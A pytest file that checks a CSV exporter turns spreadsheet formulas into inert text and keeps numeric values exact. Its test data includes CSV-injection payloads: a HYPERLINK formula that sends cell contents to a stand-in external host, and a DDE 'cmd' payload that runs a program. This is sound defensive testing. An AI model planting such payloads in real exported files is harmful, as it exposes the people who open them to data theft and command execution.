"""CSV that leaves the platform is not run by spreadsheets, and its numbers are unchanged."""

import csv
import io

import numpy as np
import pandas as pd
import pytest

from tme_platform.csv_text import csv_text

FORMULAS = [
    '=HYPERLINK("http://elsewhere.example/?"&A1,"open")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "|calc",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_in_cells_and_headings(text: str) -> None:
    frame = pd.DataFrame({"plain": pd.array([text, None], dtype="string"), text: [1.5, 2.5]})
    heading, first, second = csv.reader(io.StringIO(csv_text(frame), newline=""))
    written = "'" + text.replace("\r", "\n")
    assert heading == ["plain", written]
    assert first == [written, "1.5"]
    assert second == ["", "2.5"]


@pytest.mark.parametrize("text", ["-0.5", "+1", "-1e-9", "1,234", "-12%", "a=b", "CD4+", "T cells", ""])
def test_other_text_stays(text: str) -> None:
    assert csv_text(pd.DataFrame({"a": [text], "b": [text]})).splitlines()[1].replace('"', "").startswith(text)


def test_numbers_stay_to_the_last_digit() -> None:
    values = np.array([-0.1, 1e-300, -123456789.123456789, np.nan])
    frame = pd.DataFrame(
        {"x": values, "n": pd.array([-1, 2, None, 3], dtype="Int64"), "flag": [True, False, None, True]}
    )
    assert csv_text(frame) == frame.to_csv(index=False)
